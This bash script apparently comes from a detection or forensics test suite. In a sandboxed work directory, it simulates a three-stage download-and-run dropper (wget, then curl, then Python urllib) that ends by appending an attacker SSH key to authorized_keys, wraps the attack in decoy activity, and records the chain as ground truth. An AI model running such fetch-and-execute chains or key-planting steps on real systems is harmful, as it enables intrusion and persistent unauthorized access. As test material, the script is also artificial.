#!/usr/bin/env bash
# Three-stage download-and-run with three different downloaders: busybox wget fetches a loader,
# sh runs it; the loader fetches a Python stage with curl; Python (urllib) fetches an ELF binary
# (a copy of tee, renamed) and runs it, which appends an SSH key to authorized_keys.
# Decoys: a benign Python script that reads authorized_keys (before), wget of another file from
# the same server (before), a key rotation that rewrites authorized_keys (after detection).
#   scripts/lab/audit/dropper3.sh WORKDIR NONCE
. "$(dirname "$0")/lib.sh"
work=$(realpath -m "$1"); nonce=$2
mkdir -p "$work"/{srv,dl,victim,backup}
attacker_host 2
trap 'cleanup $http_pid' EXIT
background_noise "$work"

start_http "$work/srv"
cat > "$work/srv/stage1.sh" <<STAGE
#!/bin/sh
curl -s -o $work/dl/stage2.py $url/stage2.py
$py $work/dl/stage2.py
STAGE
cat > "$work/srv/stage2.py" <<STAGE
import os, subprocess, urllib.request
dest = "$work/dl/svc-update"
with urllib.request.urlopen("$url/stage3") as reply, open(dest, "wb") as out:
    out.write(reply.read())
os.chmod(dest, 0o755)
subprocess.run([dest, "-a", "$work/victim/authorized_keys"], input=b"ssh-ed25519 AAAAevil attacker-$nonce\n", stdout=subprocess.DEVNULL, check=True)
STAGE
cp /usr/bin/tee "$work/srv/stage3"
echo "motd" > "$work/srv/motd.txt"
echo "ssh-ed25519 AAAAgood admin" > "$work/victim/authorized_keys"

# Decoys before the attack.
"$py" -c "print(len(open('$work/victim/authorized_keys').read()))" > "$work/backup/keys.count"
busybox wget -q -O "$work/dl/motd.txt" "$url/motd.txt"
settle

# The attack.
busybox wget -q -O "$work/dl/stage1.sh" "$url/stage1.sh"
sh "$work/dl/stage1.sh"
settle
detect_at=$(now)
settle

# Decoy after detection: a key rotation rewrites the file.
sh -c "cp $work/victim/authorized_keys $work/backup/keys.old && echo 'ssh-ed25519 AAAAnew admin' > $work/victim/authorized_keys"
settle

cat > "$work/facts.json" <<JSON
{
  "scenario": "dropper3",
  "damaged": $(json_str "$work/victim/authorized_keys"),
  "detect_at": $detect_at,
  "entry": "socket:$atk_ip:$http_port",
  "chain": $(json_list "stage1.sh $url" "sh $work/dl/stage1.sh" "stage2.py $url" "$py $work/dl/stage2.py" "$work/dl/svc-update -a"),
  "decoys": $(json_list "keys.count" "motd.txt" "keys.old"),
  "modified": $(json_list "$work/dl/stage1.sh" "$work/dl/stage2.py" "$work/dl/svc-update" "$work/victim/authorized_keys")
}
JSON
end_marker "$nonce"
